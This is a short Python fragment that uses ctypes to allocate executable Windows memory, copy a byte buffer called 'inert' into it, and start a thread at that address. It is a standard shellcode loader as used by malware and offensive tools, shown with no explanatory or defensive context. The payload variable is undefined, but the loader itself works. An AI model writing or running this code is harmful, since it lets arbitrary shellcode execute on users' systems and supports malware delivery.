import ctypes
kernel = ctypes.windll.kernel32
place = kernel.VirtualAlloc(0, len(inert), 0x3000, 0x40)
ctypes.memmove(place, inert, len(inert))
kernel.CreateThread(0, 0, place, 0, 0, 0)
